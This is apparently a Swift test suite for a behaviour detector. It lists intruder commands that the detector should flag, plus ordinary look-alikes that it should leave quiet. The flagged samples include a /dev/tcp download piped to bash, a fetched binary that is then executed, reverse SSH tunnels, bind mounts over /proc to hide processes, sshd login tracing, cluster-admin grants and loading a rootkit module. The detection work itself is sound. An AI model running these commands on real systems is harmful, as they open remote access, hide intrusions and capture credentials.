import Bytes
import Evidence
import Testing

@testable import Detectors

private func severities(_ command: String) -> [String: Severity] {
  let found = command.withView { BehaviourDetector().scan($0, .command) }
  return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
}

/// Tools and tricks with one meaning each, and the ordinary work that is spelled alike.
@Suite struct IntruderToolsTests {
  @Test(
    arguments: [
      (
        "tar cf x.tar a --checkpoint=1 --checkpoint-action=exec=/bin/sh", "archiver-hook", .medium
      ),
      ("echo > '--checkpoint-action=exec=sh x.sh'", "archiver-hook", .medium),
      ("tar cf x.tar a --checkpoint=99 --checkpoint-action=exec='sleep 1'", "archiver-hook", .low),
      ("sqlmap -u http://h.example/?id=1 --dbs", "attack-tool", .medium),
      ("python3 sqlmap.py -u http://h.example/?id=1", "attack-tool", .medium),
      ("mount --bind /tmp/empty /proc/812", "process-hidden", .high),
      ("mount -o bind /var/tmp /proc/$pid", "process-hidden", .high),
      ("mv /bin/ps /bin/.ps", "listing-replaced", .medium),
      ("mv -f /usr/bin/top /usr/bin/top.original", "listing-replaced", .medium),
      ("dd if=/proc/812/mem of=/tmp/m bs=1 skip=9", "process-memory-read", .medium),
      (
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default",
        "cluster-admin-granted", .medium
      ),
      (
        "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=ops@h.example", "cluster-admin-granted",
        .low
      ),
      ("curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "container-escape", .low),
      (
        "exec 3<>/dev/tcp/${h}/80; echo -en \"GET ${d} HTTP/1.0\\r\\n\\r\\n\" >&3; (while read l; do :; done; cat) <&3 | bash",
        "download-by-hand", .medium
      ),
      (
        "exec 6<>/dev/tcp/198.51.100.9/60; echo -n 'GET /linux' >&6; cat 0<&6 >/tmp/x; chmod +x /tmp/x; /tmp/x",
        "download-by-hand", .medium
      ),
      ("rm -rf /tmp/.X25-unix; mkdir /tmp/.X25-unix; cd /tmp/.X25-unix", "hidden-temporary-file", .medium),
      ("ssh -N -R 9999:localhost:22 user@203.0.113.5", "ssh-tunnel", .medium),
      ("ssh -fND0.0.0.0:1080 root@203.0.113.5", "ssh-tunnel", .medium),
      ("strace -f -p $(pgrep -o sshd) -e read -o /tmp/.l", "login-traced", .medium),
      ("insmod diamorphine.ko", "kernel-module", .high), ("insmod /tmp/x.ko", "kernel-module", .medium),
      ("./gsocket -s x", "tunnel", .medium), ("nohup /opt/frpc -c frpc.ini &", "tunnel", .medium),
    ] as [(String, String, Severity)])
  func isTold(command: String, rule: String, severity: Severity) {
    #expect(severities(command)[rule] == severity)
  }

  @Test(arguments: [
    "tar cf x.tar a --checkpoint=99 --checkpoint-action=dot", "apt-get remove nikto", "mount --bind /srv /var/www",
    "mount --bind /proc /mnt/proc", "mount -o bind /proc/sys /mnt/sys", "mv /bin/psql /opt", "cat /proc/meminfo",
    "cat /sys/fs/cgroup/x/mem", "kubectl get clusterrolebinding cluster-admin",
    "exec 3<>/dev/tcp/localhost/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | grep -q UP",
    "ssh -N -R 2222:localhost:22 user@h.example", "ssh -fN -L 3306:db:3306 u@203.0.113.5",
    "ssh -oDynamicForward=no u@203.0.113.5", "ssh -R 80:localhost:80 10.0.0.5", "strace -p 812", "insmod e1000.ko",
    "grep _orgsocket socks.py", "valgrind --logsocket=127.0.0.1 ls", "ls /tmp/.hidden; rm /tmp/.hidden",
    "find /var -regex '.*/tmp/.*[0-9]'", "sed 1d a >/tmp/.$$ && mv /tmp/.$$ a", "vim /tmp/.X11-pipe",
    "xset -display /tmp/.X0-lock",
  ])
  func ordinaryWorkStaysQuiet(command: String) {
    #expect(severities(command).isEmpty)
  }
}
